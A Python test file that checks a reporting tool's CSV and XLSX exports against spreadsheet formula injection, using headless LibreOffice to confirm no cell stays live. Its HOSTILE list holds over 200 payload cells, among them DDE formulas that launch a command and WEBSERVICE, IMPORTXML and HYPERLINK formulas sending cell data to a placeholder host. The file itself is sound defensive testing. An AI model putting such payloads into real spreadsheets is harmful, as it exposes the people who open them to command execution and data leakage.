"""CSV and workbooks: nothing in them is alive, nothing in them is lost."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from reportedly.exports import write_csv, write_jsonl, write_xlsx
from reportedly.exports.rows import TABLES
from reportedly.exports.schema import COLUMNS
from reportedly.records import CaptureId, Corpus, DocId, Document, DocumentRecords
from reportedly.views import LISTINGS, Index
from reportedly.views.spreadsheet import restored

SOFFICE = shutil.which("soffice")
SIGNS = [
    *"=+-@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    '"=',
    "'=",
    "\ufeff=",
    ";=",
    "-+=",
]
BODIES = [
    "1+1",
    "cmd|'/C calc'!A0",
    'DDE("cmd";"/C calc";"1")',
    'HYPERLINK("http://example.invalid/?"&A1,"read more")',
    'WEBSERVICE("http://example.invalid/")',
    'IMPORTXML(CONCAT("http://example.invalid/",A2),"//a")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    '1+1";=2+2',
    "A1;=A2\t=A3\n=A4",
    "{1,2}",
    'INDIRECT("A1")',
    "2032",
]
HOSTILE = [sign + body for sign in SIGNS for body in BODIES]
LIVE = re.compile(r"table:formula=|xlink:href=|<table:dde-link")


def corpus_of(cells: list[str]) -> Corpus:
    """Return a corpus in which each cell is a document's text, title and outlet."""
    documents = [
        Document(
            id=DocId(f"d{n:04}"),
            capture=CaptureId("0" * 64),
            path=cell,
            media_type="text/plain",
            text=cell,
            blocks=(),
            language="en",
            title=cell,
            outlet=cell,
            byline=(cell,),
        )
        for n, cell in enumerate(cells)
    ]
    return Corpus(documents=tuple(DocumentRecords(document=d) for d in documents))


def sheet(file: Path) -> Iterator[dict[str, str]]:
    csv.field_size_limit(10_000_000)
    with file.open(encoding="utf-8", newline="") as lines:
        yield from csv.DictReader(lines)


def opened(files: list[Path], folder: Path, separator: str = "") -> list[str]:
    """Return the files as LibreOffice holds them once they are open, as flat XML."""
    assert SOFFICE
    command = [SOFFICE, f"-env:UserInstallation=file://{folder}/profile", "--headless"]
    if separator:  # quotation mark, UTF-8, first line; "detect special numbers" and formulas on
        tokens = f"{ord(separator)},34,76,1,,0,false,true,false,false,false,-1,true"
        command += [f"--infilter=Text - txt - csv (StarCalc):{tokens}"]
    command += ["--convert-to", "fods", "--outdir", str(folder), *map(str, files)]
    subprocess.run(command, capture_output=True, timeout=120, check=True)
    return [(folder / f"{file.stem}.fods").read_text(encoding="utf-8") for file in files]


needs_office = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")


def test_there_are_two_hundred_hostile_cells() -> None:
    assert len(set(HOSTILE)) >= 200


@needs_office
def test_libreoffice_finds_no_live_cell_in_hostile_exports(tmp_path: Path) -> None:
    corpus = corpus_of(HOSTILE)
    write_csv(corpus, tmp_path, {"=1+1": "=1+1"})
    write_xlsx(corpus, tmp_path, {"=1+1": "=1+1"})
    naked = tmp_path / "naked.csv"
    naked.write_text("id,title\nd1,=1+1\n", encoding="utf-8")

    files = [naked, tmp_path / "documents.csv", tmp_path / "ledger.xlsx"]
    control, table, workbook = opened(files, tmp_path)

    assert "table:formula=" in control, "this test would see a live cell"
    assert min(table.count("cmd|"), workbook.count("cmd|")) >= 50
    assert LIVE.findall(table) == []
    assert LIVE.findall(workbook) == []


@needs_office
@pytest.mark.nightly
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_file_opened_at_any_separator_is_harmless(tmp_path: Path, separator: str) -> None:
    write_csv(corpus_of(HOSTILE), tmp_path, {})

    (table,) = opened([tmp_path / "documents.csv"], tmp_path, separator)

    assert LIVE.findall(table) == []


def test_csv_gives_every_text_back(tmp_path: Path) -> None:
    write_csv(corpus_of(HOSTILE), tmp_path, {})

    rows = list(sheet(tmp_path / "documents.csv"))

    assert [restored(row["title"]) for row in rows] == HOSTILE
    assert [json.loads(row["byline"])[0] for row in rows] == HOSTILE
    assert not [r for r in rows if r["title"].startswith(tuple("=+-@＝＋－＠\t\r"))]


def test_csv_holds_what_json_lines_hold(demo: Corpus, tmp_path: Path) -> None:
    counts = write_csv(demo, tmp_path, {"reportedly": "1"})
    write_jsonl(demo, tmp_path, {})

    for table in TABLES:
        lines = (tmp_path / f"{table}.jsonl").read_text(encoding="utf-8").splitlines()
        rows = list(sheet(tmp_path / f"{table}.csv"))
        assert len(rows) == len(lines) == counts[table]
        for row, line in zip(rows, lines, strict=True):
            for name, value in json.loads(line).items():
                cell = restored(row[name])
                nested = isinstance(value, list | dict | bool)
                assert (json.loads(cell) if nested else cell) == (
                    value if nested else "" if value is None else str(value)
                )


def test_an_empty_table_still_has_its_header(tmp_path: Path) -> None:
    write_csv(Corpus(documents=()), tmp_path, {})

    for table, columns in COLUMNS.items():
        header, *rows = (tmp_path / f"{table}.csv").read_text(encoding="utf-8").splitlines()
        assert (header.split(","), rows) == (list(columns), [])


def test_a_workbook_has_frozen_headers_numbers_as_numbers_and_no_formula(
    demo: Corpus, tmp_path: Path
) -> None:
    counts = write_xlsx(demo, tmp_path, {})

    with zipfile.ZipFile(tmp_path / "ledger.xlsx") as parts:
        sheets = [parts.read(n).decode() for n in parts.namelist() if "worksheets/sheet" in n]
        assert not [name for name in parts.namelist() if "externalLink" in name]
    assert len(sheets) == len(counts) + 1
    assert all('state="frozen"' in body for body in sheets)
    assert not [body for body in sheets if "<f>" in body or "<hyperlink" in body]
    assert sum(body.count('<c r="C') for body in sheets) > 100
    low = next(row for row in LISTINGS["rows"](Index(demo)).rows if row[2])[2]
    assert f"<v>{low}</v>" in sheets[0]


def test_the_same_corpus_gives_the_same_workbook(demo: Corpus, tmp_path: Path) -> None:
    for folder in ("a", "b"):
        write_xlsx(demo, tmp_path / folder, {"reportedly": "1"})

    one, two = ((tmp_path / f / "ledger.xlsx").read_bytes() for f in ("a", "b"))
    assert one == two


def test_a_text_longer_than_a_cell_is_cut_with_an_ellipsis(tmp_path: Path) -> None:
    write_xlsx(corpus_of(["🇦🇿 a" * 20_000, "\x00\x01\ud800 odd"]), tmp_path, {})

    with zipfile.ZipFile(tmp_path / "ledger.xlsx") as parts:
        strings = parts.read("xl/sharedStrings.xml").decode("utf-8")
    longest = max(re.findall(r"<t[^>]*>([^<]*)", strings), key=len)
    assert longest.endswith("…")
    assert len(longest.encode("utf-16-le")) <= 2 * 32_767
